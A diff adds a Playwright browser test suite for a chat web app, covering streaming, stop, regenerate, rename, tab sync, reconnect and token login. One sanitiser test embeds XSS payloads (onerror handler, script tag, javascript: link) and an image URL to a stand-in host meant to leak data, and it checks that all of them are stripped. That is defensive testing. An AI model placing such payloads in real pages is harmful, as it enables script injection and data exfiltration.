@@ -1,0 +1,478 @@
+"""The chat workspace in a real headless Chromium, against a real server.
+
+One server and one browser per module; every test uses its own user (so its
+own sidebar) and its own browser context. Waits are Playwright's
+(``expect`` with deadlines), never sleeps. Without a
+browser every test is skipped, with the reason printed (``-ra``).
+"""
+
+from __future__ import annotations
+
+import re
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import jwt
+import pytest
+import requests
+
+from tests.server_support import WAIT, dev_token
+from tests.web_support import TcpProxy, browser_missing, launch_browser, web_server
+
+MISSING = browser_missing()
+pytestmark = pytest.mark.skipif(MISSING is not None, reason=MISSING or "")
+
+if MISSING is None:
+    from playwright.sync_api import Page, expect
+
+    expect.set_options(timeout=WAIT * 1000)
+
+#: Long enough replies to see them stream, stop them and cut them mid-way.
+TOKENS = 40
+DELAY_MS = 30.0
+SECRET = "web-test-secret-0123456789-0123456789"
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
+    with web_server(
+        tmp_path_factory.mktemp("web"), mock_tokens=TOKENS, mock_delay_ms=DELAY_MS
+    ) as srv:
+        yield srv
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with launch_browser() as b:
+        yield b
+
+
+class PageErrors:
+    """Console errors and uncaught exceptions of the pages of one test."""
+
+    def __init__(self) -> None:
+        self.errors: list[str] = []
+        self.allowed: list[str] = []
+
+    def watch(self, page: Page) -> Page:
+        page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
+        page.on("pageerror", lambda e: self.errors.append(f"uncaught: {e}"))
+        return page
+
+    def unexpected(self) -> list[str]:
+        return [e for e in self.errors if not any(a in e for a in self.allowed)]
+
+
+@pytest.fixture
+def errors() -> PageErrors:
+    return PageErrors()
+
+
+@pytest.fixture
+def context(browser: Any, errors: PageErrors) -> Iterator[Any]:
+    ctx = browser.new_context(viewport={"width": 1280, "height": 800})
+    ctx.on("page", errors.watch)
+    yield ctx
+    ctx.close()
+    assert errors.unexpected() == [], "the page logged errors"
+
+
+@pytest.fixture
+def page(context: Any) -> Page:
+    p: Page = context.new_page()
+    return p
+
+
+def login(page: Page, base: str, user: str) -> None:
+    page.goto(f"{base}/")
+    page.get_by_label("User name").fill(user)
+    page.get_by_role("button", name="Log in").click()
+    expect(page.locator("#conn-status")).to_have_text("Connected")
+
+
+def composer(page: Page) -> Any:
+    return page.get_by_role("textbox", name="Message")
+
+
+def send(page: Page, text: str) -> None:
+    composer(page).fill(text)
+    composer(page).press("Enter")
+
+
+def new_chat(page: Page) -> str:
+    """Click New chat; returns the new conversation's id once it is open."""
+    before = page.url
+    page.get_by_role("button", name="New chat").click()
+    expect(page).not_to_have_url(before)
+    expect(page).to_have_url(re.compile(r"#/c/[0-9a-f]+$"))
+    return page.url.rsplit("/", 1)[1]
+
+
+def replies(page: Page) -> Any:
+    return page.locator("article[data-role=assistant]")
+
+
+def stored(server: Any, user: str, cid: str, **params: Any) -> list[dict[str, Any]]:
+    """The conversation's messages as the server stored them (REST)."""
+    r = requests.get(
+        f"{server.url}/api/v1/conversations/{cid}/messages",
+        params=params,
+        headers={"Authorization": f"Bearer {dev_token(server, user)}"},
+        timeout=WAIT,
+    )
+    r.raise_for_status()
+    msgs: list[dict[str, Any]] = r.json()["messages"]
+    return msgs
+
+
+def last_reply(server: Any, user: str, cid: str) -> dict[str, Any]:
+    return [m for m in stored(server, user, cid) if m["message_type"] == "assistant"][-1]
+
+
+def reply_text(page: Page, message_id: str) -> str:
+    """The reply's text as shown (Markdown rendered back to its words)."""
+    text: str = page.locator(f'article[data-id="{message_id}"] .msg-body').inner_text()
+    return text
+
+
+def words(text: str) -> str:
+    return " ".join(text.split())
+
+
+def wait_streaming_chunks(page: Page, n: int) -> None:
+    """Until the reply in progress holds at least ``n`` (< 10) chunks."""
+    expect(page.locator("article[data-state=streaming]")).to_have_attribute(
+        "data-chunks", re.compile(rf"^([{n}-9]|\d\d+)$")
+    )
+
+
+# -- the tests -----------------------------------------------------------------------------
+
+
+def test_login_create_send_and_stream_to_completion(server: Any, page: Page) -> None:
+    login(page, server.url, "ann")
+    expect(page.locator("#user-name")).to_have_text("Signed in as ann")
+    cid = new_chat(page)
+    item = page.locator(f'#conv-list li[data-id="{cid}"]')
+    expect(item).to_contain_text("New conversation")
+    expect(page.locator("#chat-title")).to_have_text("New conversation")
+
+    # Record every length the reply's text goes through while it streams.
+    page.evaluate(
+        """() => {
+        window.__lengths = [];
+        new MutationObserver(() => {
+          const body = document.querySelector('article[data-role=assistant] .msg-body');
+          if (body) window.__lengths.push(body.textContent.length);
+        }).observe(document.getElementById('transcript'),
+                   {subtree: true, childList: true, characterData: true});
+      }"""
+    )
+    send(page, "Hello there, how do actors scale?")
+    expect(page.locator("article[data-role=user]")).to_have_text(
+        re.compile("Hello there, how do actors scale")
+    )
+    reply = replies(page)
+    # The typing indicator shows while the model writes.
+    expect(reply).to_have_attribute("data-state", "streaming")
+    expect(page.locator("#activity")).to_contain_text("is writing")
+    expect(page.get_by_role("button", name="Stop")).to_be_visible()
+    expect(reply).to_have_attribute("data-state", "done")
+    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
+    expect(page.locator("#activity")).not_to_contain_text("is writing")
+
+    # Token by token: the text grew through many lengths, not in one piece.
+    lengths = sorted(set(page.evaluate("window.__lengths")))
+    assert len(lengths) >= TOKENS // 4, lengths
+
+    saved = last_reply(server, "ann", cid)
+    assert reply.get_attribute("data-id") == saved["id"]
+    assert words(reply_text(page, saved["id"])) == words(saved["content"])
+    usage = saved["usage"]
+    expect(reply.locator(".usage")).to_have_text(
+        f"{usage['prompt_tokens']} prompt · {usage['completion_tokens']} completion · "
+        f"{usage['total_tokens']} tokens"
+    )
+    # The first message titles the conversation.
+    expect(item.locator(".conv-title")).to_have_text("Hello there, how do actors scale?")
+    expect(item.locator(".conv-meta")).to_contain_text("2 messages")
+
+
+def test_stop_a_generation(server: Any, page: Page) -> None:
+    login(page, server.url, "bob")
+    cid = new_chat(page)
+    send(page, "Tell me a long story")
+    wait_streaming_chunks(page, 3)
+    page.get_by_role("button", name="Stop").click()
+    reply = replies(page)
+    expect(reply).to_have_attribute("data-state", "cancelled")
+    expect(reply.locator(".msg-status")).to_have_text("Stopped")
+    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
+    saved = last_reply(server, "bob", cid)
+    assert saved["finish_reason"] == "cancelled"
+    assert saved["usage"]["completion_tokens"] < TOKENS
+    assert words(reply_text(page, saved["id"])) == words(saved["content"])
+    # The conversation goes on after a stop.
+    send(page, "And now a short one")
+    expect(replies(page)).to_have_count(2)
+    expect(replies(page).nth(1)).to_have_attribute("data-state", "done")
+
+
+def test_regenerate_replaces_the_reply(server: Any, page: Page) -> None:
+    login(page, server.url, "cyd")
+    cid = new_chat(page)
+    send(page, "Say something")
+    expect(replies(page)).to_have_attribute("data-state", "done")
+    first_id = replies(page).get_attribute("data-id")
+    page.get_by_role("button", name="Regenerate").click()
+    expect(replies(page)).not_to_have_attribute("data-id", first_id or "")
+    expect(replies(page)).to_have_count(1)
+    expect(replies(page)).to_have_attribute("data-state", "done")
+    new_id = replies(page).get_attribute("data-id")
+    saved = last_reply(server, "cyd", cid)
+    assert saved["id"] == new_id
+    assert words(reply_text(page, saved["id"])) == words(saved["content"])
+    # The old reply is kept on the server as an earlier version.
+    versions = stored(server, "cyd", cid, versions="true")
+    assert any(m["id"] == first_id and m.get("superseded") for m in versions)
+
+
+def test_rename_search_and_delete(server: Any, page: Page) -> None:
+    login(page, server.url, "dee")
+    first = new_chat(page)
+    # Rename from the conversation's header, with the keyboard.
+    page.get_by_role("button", name="Rename", exact=True).click()
+    title_box = page.get_by_role("textbox", name="Conversation title")
+    title_box.fill("Actor model notes")
+    title_box.press("Enter")
+    expect(page.locator("#chat-title")).to_have_text("Actor model notes")
+    expect(page.locator(f'#conv-list li[data-id="{first}"] .conv-title')).to_have_text(
+        "Actor model notes"
+    )
+    second = new_chat(page)
+    # Rename from the sidebar.
+    page.locator(f'#conv-list li[data-id="{second}"]').hover()
+    page.get_by_role("button", name="Rename “New conversation”").click()
+    inline = page.get_by_role("textbox", name="New title")
+    inline.fill("Shopping list")
+    inline.press("Enter")
+    expect(page.locator(f'#conv-list li[data-id="{second}"] .conv-title')).to_have_text(
+        "Shopping list"
+    )
+    # Both titles are stored.
+    token = dev_token(server, "dee")
+    titles = {
+        c["id"]: c["title"]
+        for c in requests.get(
+            f"{server.url}/api/v1/conversations",
+            headers={"Authorization": f"Bearer {token}"},
+            timeout=WAIT,
+        ).json()["conversations"]
+    }
+    assert titles == {first: "Actor model notes", second: "Shopping list"}
+
+    # Search by title.
+    search = page.get_by_label("Search conversations by title")
+    search.fill("actor")
+    expect(page.locator("#conv-list li")).to_have_count(1)
+    expect(page.locator("#conv-list li .conv-title")).to_have_text("Actor model notes")
+    search.fill("zebra")
+    expect(page.locator("#conv-list li")).to_have_count(0)
+    expect(page.locator("#conv-empty")).to_contain_text("No conversation title contains")
+    search.fill("")
+    expect(page.locator("#conv-list li")).to_have_count(2)
+
+    # Delete the open one from the header, after confirming.
+    page.locator(f'#conv-list li[data-id="{first}"] .conv-link').click()
+    expect(page.locator("#chat-title")).to_have_text("Actor model notes")
+    page.get_by_role("button", name="Delete", exact=True).click()
+    dialog = page.get_by_role("dialog", name="Delete this conversation?")
+    expect(dialog).to_be_visible()
+    dialog.get_by_role("button", name="Delete").click()
+    expect(page.locator(f'#conv-list li[data-id="{first}"]')).to_have_count(0)
+    expect(page.locator("#chat-title")).to_have_text("New conversation")
+    # Cancel keeps it; the sidebar's delete button asks too.
+    page.locator(f'#conv-list li[data-id="{second}"]').hover()
+    page.get_by_role("button", name="Delete “Shopping list”").click()
+    dialog.get_by_role("button", name="Cancel").click()
+    expect(page.locator(f'#conv-list li[data-id="{second}"]')).to_have_count(1)
+    page.locator(f'#conv-list li[data-id="{second}"]').hover()
+    page.get_by_role("button", name="Delete “Shopping list”").click()
+    dialog.get_by_role("button", name="Delete").click()
+    expect(page.locator("#conv-list li")).to_have_count(0)
+    r = requests.get(
+        f"{server.url}/api/v1/conversations/{first}",
+        headers={"Authorization": f"Bearer {token}"},
+        timeout=WAIT,
+    )
+    assert r.status_code == 404
+
+
+def test_two_tabs_stay_in_sync(server: Any, context: Any) -> None:
+    a = context.new_page()
+    login(a, server.url, "eve")
+    b = context.new_page()
+    b.goto(f"{server.url}/")  # the same browser: already logged in
+    expect(b.locator("#conn-status")).to_have_text("Connected")
+    cid = new_chat(a)
+    item_b = b.locator(f'#conv-list li[data-id="{cid}"]')
+    expect(item_b).to_be_visible()  # created in tab A, listed in tab B
+    item_b.locator(".conv-link").click()
+    expect(b).to_have_url(re.compile(f"#/c/{cid}$"))
+    # B is typing: A sees it.
+    composer(b).type("hm")
+    expect(a.locator("#activity")).to_contain_text("You are typing in another tab")
+    composer(b).fill("")
+
+    send(a, "Hello from tab A")
+    expect(b.locator("article[data-role=user]")).to_contain_text("Hello from tab A")
+    expect(b.locator("article[data-role=assistant]")).to_have_attribute("data-state", "streaming")
+    for p in (a, b):
+        expect(p.locator("article[data-role=assistant]")).to_have_attribute("data-state", "done")
+    mid = a.locator("article[data-role=assistant]").get_attribute("data-id") or ""
+    assert b.locator("article[data-role=assistant]").get_attribute("data-id") == mid
+    assert reply_text(a, mid) == reply_text(b, mid)
+    # Stop from tab B stops tab A's stream too.
+    send(a, "Another one from A")
+    expect(b.locator("article[data-role=assistant]").nth(1)).to_have_attribute(
+        "data-state", "streaming"
+    )
+    wait_streaming_chunks(b, 2)
+    b.get_by_role("button", name="Stop").click()
+    for p in (a, b):
+        expect(p.locator("article[data-role=assistant]").nth(1)).to_have_attribute(
+            "data-state", "cancelled"
+        )
+    # Renamed in B: A's header and sidebar follow.
+    b.get_by_role("button", name="Rename", exact=True).click()
+    b.get_by_role("textbox", name="Conversation title").fill("Synced title")
+    b.get_by_role("textbox", name="Conversation title").press("Enter")
+    expect(a.locator("#chat-title")).to_have_text("Synced title")
+    expect(a.locator(f'#conv-list li[data-id="{cid}"] .conv-title')).to_have_text("Synced title")
+    # Deleted in A: B says so and forgets it.
+    a.get_by_role("button", name="Delete", exact=True).click()
+    a.get_by_role("dialog").get_by_role("button", name="Delete").click()
+    expect(b.locator(".banner")).to_contain_text("This conversation was deleted")
+    expect(b.locator(f'#conv-list li[data-id="{cid}"]')).to_have_count(0)
+    expect(b.locator("#chat-title")).to_have_text("New conversation")
+
+
+def test_reconnect_after_a_drop_resumes_the_reply_intact(
+    server: Any, page: Page, errors: PageErrors
+) -> None:
+    errors.allowed.append("WebSocket")  # Chromium logs the cut connection
+    proxy = TcpProxy(server.port).start()
+    try:
+        sent: list[str] = []
+        page.on("websocket", lambda ws: ws.on("framesent", lambda f: sent.append(str(f))))
+        login(page, proxy.url, "fay")
+        cid = new_chat(page)
+        send(page, "Please keep talking while the network fails")
+        wait_streaming_chunks(page, 3)
+        assert proxy.drop() > 0
+        expect(page.locator("#activity")).to_contain_text("Reconnected")
+        expect(page.locator("#conn-status")).to_have_text("Connected")
+        reply = replies(page)
+        expect(reply).to_have_attribute("data-state", "done")
+        saved = last_reply(server, "fay", cid)
+        assert reply.get_attribute("data-id") == saved["id"]
+        # Exactly the stored text: nothing lost, nothing duplicated.
+        assert words(reply_text(page, saved["id"])) == words(saved["content"])
+        assert (
+            page.evaluate(
+                "id => window.__actorchat.workspace.transcript.byId.get(id).content", saved["id"]
+            )
+            == saved["content"]
+        )
+        # The join after the reconnect asked only for what followed its last chunk.
+        rejoins = [f for f in sent if '"join_conversation"' in f and '"after_index"' in f]
+        assert rejoins, sent
+        assert page.locator("article[data-role=assistant]").count() == 1
+    finally:
+        proxy.stop()
+
+
+def test_token_login_when_dev_auth_is_off(tmp_path: Path, browser: Any, errors: PageErrors) -> None:
+    errors.allowed.append("404")  # the dev endpoint is off: that is how the page learns it
+    with web_server(tmp_path, jwt_secret=SECRET) as srv:
+        ctx = browser.new_context()
+        try:
+            page = errors.watch(ctx.new_page())
+            page.goto(f"{srv.url}/")
+            page.get_by_label("User name").fill("gus")
+            page.get_by_role("button", name="Log in").click()
+            expect(page.locator("#login-error")).to_contain_text("paste a token")
+            token = jwt.encode(
+                {"sub": "gus", "exp": int(time.time()) + 3600}, SECRET, algorithm="HS256"
+            )
+            page.get_by_label("Token (JWT)").fill(token)
+            page.get_by_role("button", name="Use token").click()
+            expect(page.locator("#conn-status")).to_have_text("Connected")
+            expect(page.locator("#user-name")).to_have_text("Signed in as gus")
+            new_chat(page)
+        finally:
+            ctx.close()
+        assert errors.unexpected() == []
+
+
+def test_markdown_is_rendered_and_sanitised(server: Any, page: Page) -> None:
+    page.goto(f"{server.url}/")
+    html = page.evaluate(
+        """async () => {
+        const md = await import('/js/markdown.js');
+        const box = document.createElement('div');
+        md.renderInto(box, [
+          '# Title', '', 'Some **bold** and `code`.', '',
+          '```python', 'print("hi")', '```', '',
+          '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>',
+          '[click](javascript:window.__pwned=3) [ok](https://example.org)',
+          '![tracker](https://evil.example/leak?q=secret)',
+        ].join('\\n'));
+        document.body.append(box);
+        return box.innerHTML;
+      }"""
+    )
+    assert "<strong>bold</strong>" in html
+    assert '<code class="language-python">' in html
+    assert "Copy" in html  # code blocks get a Copy button
+    assert "onerror" not in html and "<script" not in html and "javascript:" not in html
+    assert 'href="https://example.org"' in html and 'rel="noopener noreferrer nofollow"' in html
+    # Images are links, never fetched (a URL the model wrote could leak the conversation).
+    assert "<img" not in html and "[image: tracker]" in html
+    assert page.evaluate("window.__pwned") is None
+
+
+def test_transcript_drops_duplicates_and_finds_gaps(server: Any, page: Page) -> None:
+    page.goto(f"{server.url}/")
+    result = page.evaluate(
+        """async () => {
+        const { Transcript } = await import('/js/transcript.js');
+        const t = new Transcript('c');
+        t.messageReceived({id: 'u1', message_type: 'user', content: 'hi'});
+        t.streamStart({message_id: 'a1', conversation_id: 'c', model: 'm', reply_to: 'u1'});
+        const r = [];
+        for (const [i, s] of ['A', 'B', 'C'].entries()) {
+          r.push(t.streamContent({message_id: 'a1', content: s, index: i}));
+        }
+        // Resumed join: the start and chunks 0..2 replayed, then the rest.
+        t.streamStart({message_id: 'a1', conversation_id: 'c', model: 'm', reply_to: 'u1'});
+        r.push(t.streamContent({message_id: 'a1', content: 'B', index: 1}));
+        r.push(t.streamContent({message_id: 'a1', content: 'D', index: 3}));
+        // A merged frame (slow client) overlapping what we have.
+        r.push(t.streamContent({message_id: 'a1', content: 'CDEF', first_index: 2, index: 5}));
+        // A gap.
+        r.push(t.streamContent({message_id: 'a1', content: 'H', index: 7}));
+        const before = t.messages.find(m => m.id === 'a1').content;
+        t.streamComplete({message_id: 'a1', finish_reason: 'stop',
+                          usage: {prompt_tokens: 1, completion_tokens: 6, total_tokens: 7}});
+        // Regenerated: the new reply takes the old one's place.
+        t.messageReceived({id: 'u2', message_type: 'user', content: 'more'});
+        t.streamStart({message_id: 'a9', conversation_id: 'c', model: 'm', reply_to: 'u1'});
+        return {r, before, order: t.messages.map(m => m.id)};
+      }"""
+    )
+    assert result["r"] == ["ok", "ok", "ok", "dup", "ok", "ok", "gap"]
+    assert result["before"] == "ABCDEF"
+    assert result["order"] == ["u1", "a9", "u2"]
